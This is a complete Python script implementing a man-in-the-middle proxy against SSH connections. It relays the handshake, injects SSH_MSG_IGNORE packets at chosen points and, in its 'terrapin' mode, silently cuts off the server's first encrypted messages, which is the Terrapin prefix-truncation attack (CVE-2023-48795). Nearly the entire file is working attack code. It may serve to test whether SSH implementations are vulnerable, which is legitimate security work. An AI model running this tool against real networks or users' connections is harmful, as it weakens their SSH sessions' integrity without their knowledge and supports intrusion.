"""Somebody on the path who reads and changes the clear part of an SSH connection: PORT ADDRESS SERVER_PORT WHAT.

The router's kernel sends the client's connections here, so that the client believes it talks to the server. WHAT is

early     an SSH_MSG_IGNORE to the client before the server's proposal
late      an SSH_MSG_IGNORE to the client before the server's SSH_MSG_NEWKEYS
terrapin  as `late`, and what the server sends encrypted before the client's next message is cut off (CVE-2023-48795)
"""

import contextlib
import socket
import sys
import threading

KEXINIT, NEWKEYS = 20, 21
IGNORE = b"\x02" + (0).to_bytes(4, "big")
QUIET_SECONDS = 0.4


def packet(payload: bytes) -> bytes:
    """RFC 4253 §6, without encryption."""
    padding = 8 - (5 + len(payload)) % 8 + 8
    return (1 + len(payload) + padding).to_bytes(4, "big") + bytes([padding]) + payload + bytes(padding)


def exactly(peer: socket.socket, count: int) -> bytes:
    octets = b""
    while len(octets) < count:
        more = peer.recv(count - len(octets))
        if not more:
            raise EOFError
        octets += more
    return octets


def line(peer: socket.socket) -> bytes:
    octets = b""
    while not octets.endswith(b"\n"):
        octets += exactly(peer, 1)
    return octets


def pass_on(source: socket.socket, target: socket.socket) -> None:
    """As it comes, to the end."""
    with contextlib.suppress(OSError):
        while octets := source.recv(65536):
            target.sendall(octets)
    with contextlib.suppress(OSError):
        target.shutdown(socket.SHUT_WR)


def from_the_server(server: socket.socket, client: socket.socket, what: str) -> None:
    client.sendall(line(server))
    before = KEXINIT if what == "early" else NEWKEYS
    number = 0
    while number != NEWKEYS:
        head = exactly(server, 4)
        body = exactly(server, int.from_bytes(head, "big"))
        number = body[1]
        if number == before:
            client.sendall(packet(IGNORE))
            print("inserted SSH_MSG_IGNORE", flush=True)
        client.sendall(head + body)
    if what == "terrapin":
        server.settimeout(QUIET_SECONDS)
        with contextlib.suppress(TimeoutError):
            while cut := server.recv(65536):
                print(f"cut off {len(cut)} encrypted octets", flush=True)
        server.settimeout(None)


def from_the_client(client: socket.socket, server: socket.socket, cut_off: threading.Event) -> None:
    """What comes behind the client's part of the key exchange waits until the server's message was cut off."""
    server.sendall(line(client))
    for _ in range(2):
        head = exactly(client, 4)
        server.sendall(head + exactly(client, int.from_bytes(head, "big")))
    cut_off.wait(20)
    pass_on(client, server)


port, address, server_port, what = sys.argv[1:]
with socket.create_server(("", int(port))) as listener:
    print("in the middle", flush=True)
    client, _ = listener.accept()
    with client, socket.create_connection((address, int(server_port)), timeout=20) as server:
        server.settimeout(None)
        for peer in (client, server):
            peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        cut_off = threading.Event()
        other = threading.Thread(target=from_the_client, args=(client, server, cut_off), daemon=True)
        other.start()
        with contextlib.suppress(EOFError, OSError):
            from_the_server(server, client, what)
        cut_off.set()
        pass_on(server, client)
        other.join(20)
